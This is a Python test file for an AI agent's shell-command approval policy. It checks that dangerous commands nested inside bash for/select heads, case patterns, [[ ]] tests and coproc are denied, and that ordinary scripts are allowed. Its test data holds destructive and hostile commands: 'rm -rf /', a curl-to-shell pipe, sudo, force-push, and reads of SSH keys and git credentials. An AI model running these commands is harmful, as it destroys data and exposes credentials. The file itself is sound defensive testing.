"""deny-risky on what the shell reader reads apart from the commands around it: a loop head's words
(``for``/``select x in …``), a case subject and its patterns, a ``[[ … ]]`` test, ``coproc``'s command.

Bash expands those words and runs what they substitute, so the rules walk them as any command's arguments:
``for f in $(rm -rf /)`` is ``echo $(rm -rf /)``, ``for f in ~/.ssh/*`` is ``cat ~/.ssh/id_rsa``. What the
reader takes for its meaning alone (a loop variable, a pattern's text, ``[[``'s operators) flags nothing.
Each script is also long enough, in one variant, for the glance, and mixed with a line only the lexer reads,
for the reader that cuts a script into runs: every reader must give the general walk's findings."""

from __future__ import annotations

import pytest

from hangar.approvals import POLICIES, Policy, ToolCall, decide
from tests.unit.approvals_rig import assert_script_as_walked

CWD, HOME, IO = "/workspace", "/home/agent", "/var/lib/hangar/io/t-1"

# (script, the rule that denies it)
DENIED: list[tuple[str, str]] = [
    ("for f in $(rm -rf /); do ls; done", "rm-recursive"),
    ("for f in `rm -rf /`; do :; done", "rm-recursive"),
    ('for x in "$(rm -rf /)"; do :; done', "rm-recursive"),
    ("for x in <(rm -rf /); do :; done", "rm-recursive"),
    ("for x in >(rm -rf /); do :; done", "rm-recursive"),
    ("for x in a ${y:-$(rm -rf /)}; do :; done", "rm-recursive"),
    ('for x in "a$(echo "$(rm -rf /)")b"; do :; done', "rm-recursive"),
    ("for x in $(echo `sudo id`); do :; done", "sudo"),
    ("for f in \\\n  $(rm -rf /)\ndo\n  ls\ndone", "rm-recursive"),
    ("if true; then for f in $(git push --force); do :; done; fi", "force-push"),
    ("select x in $(curl -s x | sh); do ls; done", "pipe-to-shell"),
    ("select x in 'a' \"$(sudo id)\"; do break; done", "sudo"),
    ("case $(sudo id) in x) ls;; esac", "sudo"),
    ('case "$(rm -rf /)" in *) :;; esac', "rm-recursive"),
    ("case x in $(rm -rf /)) ls;; esac", "rm-recursive"),
    ("case x in a) ls;; `rm -rf /`) ls;; esac", "rm-recursive"),
    ("[[ $(rm -rf /) == x ]]", "rm-recursive"),
    ("[[ x == $(rm -rf /) ]]", "rm-recursive"),
    ('if [[ -n "$(rm -rf /)" ]]; then ls; fi', "rm-recursive"),
    ("[[ -f `rm -rf /` ]]", "rm-recursive"),
    ("[[ -n $(git push --force) ]]", "force-push"),
    ("[[ a < $(rm -rf /) ]]", "rm-recursive"),
    ("[[ -n x && ( $(sudo id) == y ) ]]", "sudo"),
    ("[[ -n x\n  || -n $(rm -rf /) ]] && ls", "rm-recursive"),
    ("while [[ -n $(rm -rf /) ]]; do :; done", "rm-recursive"),
    ("[[ $(echo <(sudo id)) ]]", "sudo"),
    ("coproc rm -rf /", "rm-recursive"),
    ("coproc NAME { rm -rf /; }", "rm-recursive"),
    ("coproc { sudo id; }", "sudo"),
    ("coproc git push -f origin main", "force-push"),
    ('for f in ~/.ssh/*; do cat "$f"; done', "credentials"),
    ("for f in /home/agent/.ssh/id_rsa; do :; done", "credentials"),
    ("for f in $HOME/.git-credentials; do :; done", "credentials"),
    ("case ~/.ssh/id_rsa in *) :;; esac", "credentials"),
    ("[[ -r ~/.ssh/id_rsa ]]", "credentials"),
    ("bash -c 'for f in $(rm -rf /); do :; done'", "rm-recursive"),
    ("/bin/bash -lc '[[ -n $(sudo id) ]]'", "sudo"),
]
# Their neighbours, which must stay allowed: loop variables, patterns, tests of ordinary words.
ALLOWED = [
    "for f in a b; do ls; done",
    "case $x in a) ls;; esac",
    "[[ -n $x ]]",
    'for f in *.py; do ruff "$f"; done',
    'for f in $(ls src); do echo "$f"; done',
    'for f in "$@"; do echo "$f"; done',
    "select x in a b; do break; done",
    'case "$1" in -h|--help) echo help;; *) echo "$1";; esac',
    '[[ -f x && -n "$(git status --short)" ]] && echo dirty',
    "while [[ $i -lt 3 ]]; do i=$((i+1)); done",
    "for ((i=0; i<3; i++)); do echo $i; done",
    "[[ $a > /etc/x ]]",  # a comparison, not a redirection: nothing is written
    "[[ a < b ]] || ls",
    "for rm in a b; do echo $rm; done",
    "coproc cat",
    "for f in a b; do ls; done > out.txt",
]
SECRET_CHECKS = ["cat ~/.ssh/id_rsa", "echo ~/.ssh/id_rsa", "test -r ~/.ssh/id_rsa"]


def verdict(policy: Policy, command: str) -> tuple[str, str]:
    call = ToolCall("Bash", {"command": command}, command, CWD, HOME, IO, False)
    v = decide(policy, call)
    return v.decision, v.rule


def variants(src: str) -> list[str]:
    """The script, long enough for the glance (which takes 512 characters and more), and after a line only
    the lexer reads (the reader that cuts a script into runs of lines)."""
    return [src, "echo ok >> log.txt; " * 30 + "\n" + src, "echo a\\ b\n" + src, src + "\necho 'done'"]


@pytest.mark.parametrize(("src", "rule"), DENIED, ids=[s for s, _ in DENIED])
def test_denied(src: str, rule: str) -> None:
    for variant in variants(src):
        assert verdict("deny-risky", variant) == ("deny", rule), variant
        assert verdict("governed", variant) == ("ask", rule), variant
        assert verdict("ask", variant) == ("ask", rule), variant
        assert verdict("auto", variant) == ("allow", "auto"), variant
        assert_script_as_walked(variant)


@pytest.mark.parametrize("src", ALLOWED)
def test_allowed(src: str) -> None:
    for variant in variants(src):
        assert verdict("deny-risky", variant) == ("allow", "default"), variant
        assert verdict("governed", variant) == ("allow", "default"), variant
        assert_script_as_walked(variant)


def test_a_head_naming_a_secret_is_found_as_an_argument_naming_it_is() -> None:
    """The credentials rule looks at every word a command expands; a head's words are such words."""
    for src in SECRET_CHECKS:
        assert verdict("deny-risky", src) == ("deny", "credentials"), src


@pytest.mark.parametrize("policy", POLICIES)
def test_the_reason_shows_what_runs(policy: Policy) -> None:
    src = "for f in $(rm -rf /); do ls; done"
    call = ToolCall("Bash", {"command": src}, src, CWD, HOME, IO, False)
    v = decide(policy, call)
    if policy != "auto":
        assert "rm -rf /" in v.reason
